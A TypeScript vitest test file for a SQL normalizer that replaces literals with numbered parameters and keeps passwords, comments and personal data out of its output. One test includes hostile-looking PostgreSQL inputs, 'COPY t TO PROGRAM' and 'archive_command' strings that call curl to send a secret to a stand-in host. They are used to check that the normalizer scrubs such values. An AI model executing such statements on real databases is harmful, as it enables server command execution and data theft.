import { beforeAll, describe, expect, it } from 'vitest';
import { classifySqlSync, loadSqlClassifier, normalizeSql, normalizeSqlSync } from './index.js';

beforeAll(async () => {
  await loadSqlClassifier();
});

const normalized = (sql: string): string => {
  const result = normalizeSqlSync(sql);
  if (!result.ok) throw result.error;
  return result.normalized;
};

describe('normalizeSql', () => {
  it('replaces every kind of literal with a numbered parameter', async () => {
    const result = await normalizeSql("SELECT 'a@b.c', E'x\\ny', 42, 1.5e3, B'101', X'ff', U&'d\\0061t', N'n', $$dollar$$, $t$tagged$t$ FROM t");
    expect(result).toEqual({ ok: true, normalized: 'SELECT $1, $2, $3, $4, $5, $6, $7, N$8, $9, $10 FROM t' });
  });

  it('never records a password literal', () => {
    for (const sql of [
      "ALTER ROLE bob PASSWORD 'hunter2'",
      "CREATE ROLE bob WITH LOGIN PASSWORD 'hunter2' VALID UNTIL '2030-01-01'",
      "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x', password 'hunter2')",
      "ALTER USER bob WITH ENCRYPTED PASSWORD 'hunter2'",
      "SELECT dblink_connect('host=db password=hunter2')",
    ]) {
      const text = normalized(sql);
      expect(text).not.toContain('hunter2');
      const classified = classifySqlSync(sql);
      expect(classified.ok && classified.normalized).not.toContain('hunter2');
    }
  });

  it('removes literals from utility statements that libpg-query normalize keeps', () => {
    expect(normalized("ALTER SYSTEM SET archive_command = 'curl evil'")).toBe('ALTER SYSTEM SET archive_command = $1');
    expect(normalized("COPY t TO PROGRAM 'curl -d secret evil'")).toBe('COPY t TO PROGRAM $1');
    expect(normalized("DO $$ BEGIN RAISE NOTICE 'ssn 123-45-6789'; END $$")).toBe('DO $1');
  });

  it('drops comments, which may carry data, and collapses whitespace', () => {
    expect(normalized('DELETE/**/FROM users -- customer jane@example.com\nWHERE  id =\t7')).toBe('DELETE FROM users WHERE id = $1');
  });

  it('keeps existing parameters and numbers new ones after them', () => {
    expect(normalized("SELECT * FROM t WHERE a = $1 AND b = 'x' AND c = $2")).toBe('SELECT * FROM t WHERE a = $1 AND b = $3 AND c = $2');
  });

  it('keeps identifiers, including quoted ones', () => {
    expect(normalized('SELECT "Email" FROM "public"."Users" WHERE "Id" = 3')).toBe('SELECT "Email" FROM "public"."Users" WHERE "Id" = $1');
  });

  it('normalizes text that tokenises but does not parse', () => {
    expect(normalized("DEL/**/ETE FROM users WHERE email = 'a@b.c'")).toBe('DEL ETE FROM users WHERE email = $1');
  });

  it('refuses text that does not tokenise, and NUL bytes', () => {
    expect(normalizeSqlSync("SELECT 'unterminated").ok).toBe(false);
    const nul = normalizeSqlSync('SELECT 1\u0000');
    expect(!nul.ok && nul.error.code).toBe('SQL_INVALID_INPUT');
  });
});
